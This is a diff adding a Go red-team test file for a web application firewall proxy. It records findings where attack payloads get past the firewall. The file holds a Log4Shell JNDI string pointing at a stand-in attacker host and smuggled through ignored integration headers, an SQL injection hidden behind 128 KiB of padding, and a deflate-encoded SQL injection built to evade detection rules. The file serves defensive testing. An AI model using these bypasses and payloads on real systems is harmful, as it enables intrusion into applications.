@@ -1,0 +1,186 @@
+package redteam19
+
+import (
+	"bytes"
+	"compress/zlib"
+	"encoding/hex"
+	"fmt"
+	"io"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/palisadehq/palisade/internal/engine"
+	"github.com/palisadehq/palisade/internal/proxy"
+	"github.com/palisadehq/palisade/internal/testenv"
+	"github.com/palisadehq/palisade/internal/waf"
+)
+
+// upstream records what the application behind palisade proxy received.
+type upstream struct {
+	mu      sync.Mutex
+	headers []http.Header
+	bodies  [][]byte
+}
+
+func (u *upstream) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	b, _ := io.ReadAll(r.Body)
+	u.mu.Lock()
+	u.headers = append(u.headers, r.Header.Clone())
+	u.bodies = append(u.bodies, b)
+	u.mu.Unlock()
+	fmt.Fprintf(w, "app got %d bytes", len(b))
+}
+
+func (u *upstream) count() int {
+	u.mu.Lock()
+	defer u.mu.Unlock()
+	return len(u.headers)
+}
+
+// proxyStack is a whole Palisade with one website (default settings:
+// block at paranoia 1) behind palisade proxy.
+func proxyStack(t *testing.T) (srvURL string, app *upstream) {
+	t.Helper()
+	pal := testenv.New(t)
+	pal.Website(t, "shop.example.com", grantAfterWAF)
+	app = &upstream{}
+	as := httptest.NewServer(app)
+	t.Cleanup(as.Close)
+	u, _ := url.Parse(as.URL)
+	px := proxy.New(pal.Protector, []proxy.Route{{Host: "shop.example.com", Upstream: u}}, nil, nil)
+	srv := httptest.NewServer(px)
+	t.Cleanup(srv.Close)
+	return srv.URL, app
+}
+
+func send(t *testing.T, base, method, target string, h http.Header, body []byte) int {
+	t.Helper()
+	code, _ := sendBody(t, base, method, target, h, body)
+	return code
+}
+
+func sendBody(t *testing.T, base, method, target string, h http.Header, body []byte) (int, string) {
+	t.Helper()
+	var rd io.Reader
+	if body != nil {
+		rd = bytes.NewReader(body)
+	}
+	req, err := http.NewRequest(method, base+target, rd)
+	if err != nil {
+		t.Fatal(err)
+	}
+	req.Host = "shop.example.com"
+	for k, vs := range browserHeaders() {
+		req.Header[k] = vs
+	}
+	for k, vs := range h {
+		req.Header[k] = vs
+	}
+	c := &http.Client{Timeout: 20 * time.Second}
+	resp, err := c.Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	b, _ := io.ReadAll(resp.Body)
+	resp.Body.Close()
+	return resp.StatusCode, string(b)
+}
+
+// grantAfterWAF is the default website with one custom rule granting
+// every request: the rules run after the firewall, so only the firewall
+// can deny (and a 403 is the firewall's).
+var grantAfterWAF = engine.Settings{Rules: []engine.Rule{{Name: "everyone", Action: "grant",
+	Conditions: []engine.Condition{{Field: "path", Op: "starts_with", Value: "/"}}}}}
+
+const log4shell = "${jndi:ldap://evil.example/a}"
+
+// FINDING (high): the engine hands the firewall a fixed list of
+// "integration headers" to ignore (X-Original-Uri, X-Original-Host,
+// X-Forwarded-Uri, X-Palisade-Token, ...) on EVERY integration, even
+// where no web server sets them. Through palisade proxy a visitor puts a
+// Log4Shell payload (CRS 944150, blocked in any other header) in
+// X-Original-Host: the firewall never reads it and the proxy forwards it
+// to the application unchanged.
+func TestFAILS_ProxyIgnoredIntegrationHeaderSmuggledToApp(t *testing.T) {
+	base, app := proxyStack(t)
+	// Control: the same payload in an ordinary header is denied.
+	if code := send(t, base, "GET", "/", http.Header{"X-Api-Version": {log4shell}}, nil); code != 403 {
+		t.Fatalf("control: Log4Shell in X-Api-Version answered %d, want 403", code)
+	}
+	for _, h := range []string{"X-Original-Host", "X-Original-Uri", "X-Forwarded-Uri", "X-Original-Method", "X-Palisade-Token", "X-Palisade-Mode"} {
+		before := app.count()
+		code := send(t, base, "GET", "/", http.Header{h: {log4shell}}, nil)
+		if code != 403 {
+			got := ""
+			if app.count() > before {
+				app.mu.Lock()
+				got = app.headers[len(app.headers)-1].Get(h)
+				app.mu.Unlock()
+			}
+			t.Errorf("Log4Shell in %s: answered %d (want 403); the application received %s: %q", h, code, h, got)
+		}
+	}
+}
+
+// FINDING (high): a body longer than waf.MaxBody is inspected only in its
+// first 128 KiB and the request is let through whole: any SQL injection
+// in a form passes once the attacker pads the form with 128 KiB of junk
+// in front of it (ModSecurity's recommended SecRequestBodyLimitAction is
+// Reject; CRS itself cannot see the rest).
+func TestFAILS_ProxyPaddedBodySQLiReachesApp(t *testing.T) {
+	base, app := proxyStack(t)
+	ct := http.Header{"Content-Type": {"application/x-www-form-urlencoded"}}
+	sqli := "id=1%27+OR+%271%27%3D%271"
+	if code := send(t, base, "POST", "/login", ct, []byte(sqli)); code != 403 {
+		t.Fatalf("control: SQL injection in a small form answered %d, want 403", code)
+	}
+	body := []byte("pad=" + strings.Repeat("a", waf.MaxBody) + "&" + sqli)
+	before := app.count()
+	if code := send(t, base, "POST", "/login", ct, body); code != 403 {
+		t.Errorf("SQL injection after %d bytes of padding answered %d (want 403 or 413); the application got it: %v",
+			waf.MaxBody, code, app.count() > before)
+	}
+}
+
+// deflatedSQLi is a zlib stream (HTTP's "deflate" content coding) of
+// "id=1' OR '1'='1&pad=xxxxxxxxxxxxxxxxxxxxy", chosen (by its padding)
+// to hold no NUL byte, which CRS's 920270 would refuse in a parameter.
+const deflatedSQLi = "7801cb4cb1355457f00f52503754b75537542b484cb1adc0022a01074e0ec9"
+
+// HELD: a request body with Content-Encoding (here deflate, crafted
+// without NUL bytes so 920270 stays quiet) would hide an SQL injection
+// from CRS from applications that decompress request bodies; CRS's 920450
+// (Content-Encoding is a restricted header) denies it at paranoia 1.
+// (Oddity: the match is reported on REQUEST_HEADERS_NAMES:Content-Length,
+// not Content-Encoding; see TestFAILS_ReportedVariableIsTheCulprit.)
+func TestHeld_ProxyDeflateEncodedBodySQLiDenied(t *testing.T) {
+	base, app := proxyStack(t)
+	sqli := "id=1' OR '1'='1"
+	body, _ := hex.DecodeString(deflatedSQLi)
+	if zr, err := zlib.NewReader(bytes.NewReader(body)); err != nil {
+		t.Fatal(err)
+	} else if b, _ := io.ReadAll(zr); !strings.HasPrefix(string(b), sqli) {
+		t.Fatalf("the stream holds %q", b)
+	}
+	h := http.Header{"Content-Type": {"application/x-www-form-urlencoded"}, "Content-Encoding": {"deflate"}}
+	before := app.count()
+	code := send(t, base, "POST", "/login", h, body)
+	if code == 403 {
+		return
+	}
+	got := ""
+	if app.count() > before {
+		app.mu.Lock()
+		if zr, err := zlib.NewReader(bytes.NewReader(app.bodies[len(app.bodies)-1])); err == nil {
+			b, _ := io.ReadAll(zr)
+			got = string(b)
+		}
+		app.mu.Unlock()
+	}
+	t.Errorf("deflate-encoded form with SQL injection answered %d (want 403 or 415); decompressed, the application got %.40q", code, got)
+}
